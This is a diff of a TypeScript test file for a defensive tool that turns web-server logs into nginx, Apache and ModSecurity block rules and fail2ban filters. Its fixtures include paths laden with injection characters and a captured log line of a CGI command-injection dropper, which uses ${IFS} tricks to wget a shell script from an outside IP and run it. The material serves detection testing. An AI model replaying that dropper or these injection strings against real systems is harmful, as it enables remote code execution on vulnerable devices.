@@ -1,8 +1,12 @@
+import { existsSync } from 'node:fs'
+import { dirname } from 'node:path'
 import { unzipSync } from 'fflate'
 import { beforeAll, describe, expect, it } from 'vitest'
 import { NO_FILTER } from '../../../src/engine/columns/filter.ts'
 import { subjects } from '../../../src/jobs/actions/incidents.ts'
+import { serverRules } from '../../../src/export/server-rules/server-rules.ts'
 import { jailsOf } from '../../../src/jobs/actions/jails.ts'
+import { logLine } from '../../../src/jobs/actions/log-line.ts'
 import { serverRulesOf } from '../../../src/jobs/actions/server-rules.ts'
 import { draftOf, shareFile } from '../../../src/jobs/actions/share.ts'
 import type { Questions } from '../../../src/jobs/questions.ts'
@@ -10,6 +14,19 @@ import type { ReportWish, ShareKind } from '../../../src/protocol/actions.ts'
 import { HOSTILE } from '../../export/hostile.ts'
 import { fileOf, installed, run } from '../../export/programs.ts'
 import { questionsOf } from '../questions-of.ts'
+
+const MODULES = '/usr/lib/apache2/modules'
+
+/** Apache's check of its configuration with these modules and lines. */
+function apache(modules: readonly string[], lines: string): ReturnType<typeof run> {
+  const dir = dirname(fileOf('x', ''))
+  const loads = modules.map((name) => {
+    const file = name === 'security2' ? 'mod_security2' : `mod_${name}`
+    return `LoadModule ${name}_module ${MODULES}/${file}.so\n`
+  })
+  const main = `ServerRoot ${dir}\nServerName a.example\nListen 127.0.0.1:1\nPidFile ${dir}/pid\nErrorLog ${dir}/e\n${loads.join('')}Include ${fileOf('b.conf', lines)}\n`
+  return run('apache2', ['-t', '-f', fileOf('a.conf', main)])
+}
 
 const WISH: ReportWish = {
   by: 'source',
@@ -126,13 +143,34 @@ describe('rules that close probed pages', () => {
   it('leave pages alone that ordinary requests use', () => {
     for (const { text } of rules()) expect(text).not.toContain('/item')
   })
-  it('are taken by ModSecurity, Apache and nginx', () => {
-    const of = (kind: string): string => rules().find((one) => one.kind === kind)?.text ?? ''
-    expect(of('modsecurity')).toContain('SecRule REQUEST_FILENAME')
-    if (installed('nginx')) {
-      const main = `pid /tmp/spoor-pid; error_log stderr; events {} http { access_log off; server { listen 127.0.0.1:1; include ${fileOf('c.conf', of('nginx'))}; } }`
-      const checked = run('nginx', ['-t', '-q', '-c', fileOf('nginx.conf', main)])
-      expect(checked.code, checked.out).toBe(0)
+  const of = (kind: string): string => rules().find((one) => one.kind === kind)?.text ?? ''
+  it('name probed pages', () => {
+    expect(of('modsecurity')).toContain('SecRule REQUEST_FILENAME "@rx ^/wp')
+  })
+  it.skipIf(!installed('nginx'))('are taken by nginx', () => {
+    const main = `pid /tmp/spoor-pid; error_log stderr; events {} http { access_log off; server { listen 127.0.0.1:1; include ${fileOf('c.conf', of('nginx'))}; } }`
+    const checked = run('nginx', ['-t', '-q', '-c', fileOf('nginx.conf', main)])
+    expect(checked.code, checked.out).toBe(0)
+  })
+  it.skipIf(!installed('apache2'))('are taken by Apache', () => {
+    const checked = apache(['mpm_event', 'authz_core', 'alias'], of('apache'))
+    expect(checked.code, checked.out).toBe(0)
+  })
+  it.skipIf(!existsSync(`${MODULES}/mod_security2.so`))('are taken by ModSecurity', () => {
+    const checked = apache(['mpm_event', 'authz_core', 'unique_id', 'security2'], of('modsecurity'))
+    expect(checked.code, checked.out).toBe(0)
+  })
+  it('write nothing of a path that could leave its place', () => {
+    const pages = [...HOSTILE, '/a"b', '/a{b}', '/$x', '/a b', '/#c', "/a'b", '/a\\b', '/a;b'].map(
+      (path) => ({ path: path.startsWith('/') ? path : `/${path}`, rule: path, hits: 1 }),
+    )
+    for (const { text, named } of serverRules(pages, 0)) {
+      const lines = text.split('\n').filter((one) => one !== '' && !one.startsWith('#'))
+      expect(lines).toHaveLength(named)
+      for (const one of lines)
+        expect(one).toMatch(
+          /^(?:location = \/[\w!%&()*+,./:=@~-]+ \{ return 403; \}|RedirectMatch 403 "\^[\w/\\-]+\$"|SecRule REQUEST_FILENAME "@rx \^[\w/\\-]+\$" "[\w:,' /-]+")$/,
+        )
     }
   })
 })
@@ -151,5 +189,29 @@ describe('fail2ban filters of a case', () => {
   it('say why there is none', () => {
     const why = jailsOf(questions, NO_FILTER, JAIL).map((answer) => answer.why)
     expect(why.every((one) => one === undefined || /^[a-z]+$/.test(one))).toBe(true)
+  })
+})
+
+/** fail2ban's own log quoting the CGI dropper's line, broken over lines as a terminal shows it. */
+const QUOTED = String.raw`2025-04-28 14:21:36,297 fail2ban.filter [1723]: WARNING Consider setting logencoding to appropriate encoding for this jail. Continuing to process line ignoring invalid characters: b'2025/04/28 14:21:36 [error] 2464#2464: *7393 open() "/usr/share/nginx/html/cgi-bin/mainfunction.cgi/apmcfgupload" failed (2: No such file or directory), client: 176.65.148.10, server: a.example, request: "GET /cgi-bin/mainfunction.cgi/apmcfgupload?session=xxx0\xb4%52$c%52$ccd${'${IFS}'}/tmp;wget${'${IFS}'}http://94.26.90.205/wget.sh;sh${'${IFS}'}wget.sh HTTP/1.1", host: "a.example"\n'
+`
+
+describe('from the line of a dropper that fail2ban quotes', () => {
+  it('to a filter for the log it came from, which fail2ban-regex takes', async () => {
+    const own = await questionsOf(QUOTED)
+    const made = jailsOf(own, NO_FILTER, { ...JAIL, maxretry: 1 }).filter(
+      ({ why }) => why === undefined,
+    )
+    expect(made.length).toBeGreaterThan(0)
+    for (const { caught, missed, wrong, jail, filter } of made) {
+      expect([caught, missed, wrong]).toEqual([1, 0, 0])
+      expect(jail).toContain('/var/log/nginx/error.log')
+      expect(filter).toContain('/cgi\\x2dbin/mainfunction\\x2ecgi/apmcfgupload')
+    }
+    if (!installed('fail2ban-regex')) return
+    const inner = logLine('fail2ban/quoted', QUOTED).text
+    const log = fileOf('error.log', `${inner}\n`)
+    const { out } = run('fail2ban-regex', [log, fileOf('spoor.conf', made[0]?.filter ?? '')])
+    expect(out).toContain('Lines: 1 lines, 0 ignored, 1 matched, 0 missed')
   })
 })
